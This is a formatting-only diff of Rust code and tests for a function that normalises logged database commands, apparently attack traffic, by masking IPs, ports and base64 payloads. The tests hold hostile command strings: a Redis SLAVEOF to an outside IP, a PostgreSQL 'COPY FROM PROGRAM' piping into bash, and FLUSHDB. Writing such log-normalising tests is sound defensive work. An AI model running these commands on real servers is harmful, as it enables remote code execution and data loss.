@@ -130,9 +130,13 @@ fn mask_core(token: &str) -> String {
         .chars()
         .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '='))
         .count();
-    if len >= 24 && b64_chars == len && token.chars().any(|c| c.is_ascii_uppercase())
+    if len >= 24
+        && b64_chars == len
+        && token.chars().any(|c| c.is_ascii_uppercase())
         && token.chars().any(|c| c.is_ascii_lowercase())
-        && token.chars().any(|c| c.is_ascii_digit() || c == '=' || c == '+')
+        && token
+            .chars()
+            .any(|c| c.is_ascii_digit() || c == '=' || c == '+')
     {
         return "<CODE>".to_string();
     }
@@ -173,7 +177,10 @@ mod tests {
 
     #[test]
     fn masks_ipv4_and_ports() {
-        assert_eq!(normalize_action("SLAVEOF 203.0.113.9 8886"), "SLAVEOF <IP> <N>");
+        assert_eq!(
+            normalize_action("SLAVEOF 203.0.113.9 8886"),
+            "SLAVEOF <IP> <N>"
+        );
         assert_eq!(
             normalize_action("connect 10.1.2.3:4444 now"),
             "connect <IP> now"
@@ -227,7 +234,9 @@ mod tests {
 
     #[test]
     fn base64_payloads_masked() {
-        let out = normalize_action("COPY t FROM PROGRAM echo aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQ= | bash");
+        let out = normalize_action(
+            "COPY t FROM PROGRAM echo aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQ= | bash",
+        );
         assert!(out.contains("<CODE>"), "{out}");
         assert!(out.starts_with("COPY t FROM PROGRAM echo"));
     }
@@ -250,7 +259,13 @@ mod tests {
 
     #[test]
     fn plain_commands_pass_through() {
-        for cmd in ["KEYS *", "INFO", "FLUSHDB", "CONFIG GET dir", "listDatabases"] {
+        for cmd in [
+            "KEYS *",
+            "INFO",
+            "FLUSHDB",
+            "CONFIG GET dir",
+            "listDatabases",
+        ] {
             assert_eq!(normalize_action(cmd), cmd);
         }
     }
